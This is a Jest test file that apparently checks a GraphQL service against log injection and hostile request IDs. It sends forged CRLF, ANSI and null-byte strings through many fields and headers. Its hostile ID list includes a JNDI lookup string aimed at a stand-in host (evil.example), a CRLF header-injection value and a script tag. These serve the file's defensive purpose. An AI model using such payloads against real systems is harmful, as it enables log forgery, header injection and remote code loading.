import { afterAll, expect, test } from '@jest/globals';
import { get, operation, post, serviceUnderAttack, sendRequest, sendBytes } from './attack.js';

const service = serviceUnderAttack();
const MARK = 'injected';
const FORGED = `x\r\n{"level":"info","event":"${MARK}"}\n\u001b[31m${MARK}\u0000`;

/** Every string that comes from outside, with a forged line in it (OWASP: log injection). */
const requests = {
  'an operation name': post(JSON.stringify({ query: 'query A { __typename }', operationName: FORGED })),
  'a document': operation(`query ${MARK}\n{ nope }\n#${FORGED}`),
  'a text in a document': operation('{ campaign(trackingId: "\\n\\u001b[31minjected") { name } }'),
  'a variable': operation('query ($id: ID!) { viberMessage(trackingId: $id) { to } }', { id: FORGED }),
  'the name of a variable': operation('{ __typename }', { [FORGED]: 1 }),
  'the key of a send': operation(
    'mutation ($key: String!) { sendViberCampaign(input: { idempotencyKey: $key, senderId: "s", recipients: { groups: ["g"] }, content: { text: "x" } }) { replayed } }',
    { key: FORGED },
  ),
  'a cursor': operation('query ($after: String) { campaigns(after: $after) { totalCount } }', { after: FORGED }),
  'a hash': post(JSON.stringify({ extensions: { persistedQuery: { version: 1, sha256Hash: FORGED } } })),
  'a body that is no JSON': post(FORGED),
  'an address': get({ query: FORGED }),
  'an encoding': post('x', { 'content-encoding': `${MARK}, x` }),
  'a type': { method: 'POST', headers: { 'content-type': `text/${MARK}` }, body: FORGED },
  'a user agent': operation('{ __typename }', undefined, { 'user-agent': `${MARK} %0a` }),
  'a forwarded address': operation('{ __typename }', undefined, { 'x-forwarded-for': `${MARK}\t1.2.3.4` }),
  'a secret': operation('{ _service { sdl } }', undefined, { 'x-subgraph-secret': MARK }),
  'a credential': operation('{ __typename }', undefined, { authorization: `Bearer ${MARK}` }),
  'a trace': operation('{ __typename }', undefined, { traceparent: MARK, baggage: `a=${MARK}` }),
  'a host': operation('{ __typename }', undefined, { host: `${MARK}.example` }),
  'a path': { path: `/${MARK}%0a%0d` },
  'a method': { method: 'PUT', body: FORGED },
} as const;

const lines = (): string[] => service().log().split('\n').filter(Boolean);
const requireClean = (logged: readonly string[]): void => {
  for (const line of logged) {
    expect(line).not.toMatch(/\p{Cc}|\\u00[01]|\\r|\\n(?! {2,}at )/u);
    const { event } = JSON.parse(line) as { event: string };
    expect(event).not.toBe(MARK);
  }
};

test.each(Object.entries(requests))('%s adds no line of its own, and no control character', async (name, request) => {
  const before = lines().length;
  await sendRequest(service().url, request);
  const logged = lines().slice(before);
  requireClean(logged);
  // the name of an operation that there is is logged, and is nothing but letters, digits and _
  if (name !== 'a document') expect(logged.join('')).not.toContain(MARK);
});

test('an operation name that is there is logged, cut off where it is long', async () => {
  const before = lines().length;
  await sendRequest(service().url, operation(`query ${'a'.repeat(100_000)} { __typename }`));
  expect(lines().slice(before).join('').length).toBeLessThan(2000);
});

const hostileIds = [
  'a b',
  'a\tb',
  'é',
  '<script>',
  '"quoted"',
  "'",
  '${jndi:ldap://evil.example/a}',
  '%0d%0aset-cookie:a=b',
  'x'.repeat(129),
  'a,b',
  'a;b',
  '{}',
  '\\u000a',
];
test.each(hostileIds.map((id) => [id.slice(0, 30), id] as const))(
  'the request id %s is replaced',
  async (_shown, id) => {
    const before = lines().length;
    const { headers, text } = await sendRequest(
      service().url,
      operation('{ nope }', undefined, { 'x-request-id': Buffer.from(id).toString('latin1') }),
    );
    expect(headers['x-request-id']).toMatch(/^[\da-f-]{36}$/);
    expect(text).toContain(String(headers['x-request-id']));
    expect(lines().slice(before).join('')).not.toContain(id);
  },
);

test('two request ids are none', async () => {
  const { url } = service();
  const body = '{"query":"{ __typename }"}';
  const { text } = await sendBytes(
    url,
    `POST /graphql HTTP/1.1\r\nhost: 127.0.0.1\r\ncontent-type: application/json\r\nx-request-id: one\r\nx-request-id: two\r\ncontent-length: ${body.length}\r\nconnection: close\r\n\r\n${body}`,
  );
  expect(text).toMatch(/x-request-id: [\da-f-]{36}\r\n/);
});

test('a request id that is fit is kept', async () => {
  const { headers } = await sendRequest(
    service().url,
    operation('{ __typename }', undefined, { 'x-request-id': 'a.b:c/d+e=f-1' }),
  );
  expect(headers['x-request-id']).toBe('a.b:c/d+e=f-1');
});

afterAll(() => requireClean(lines()));
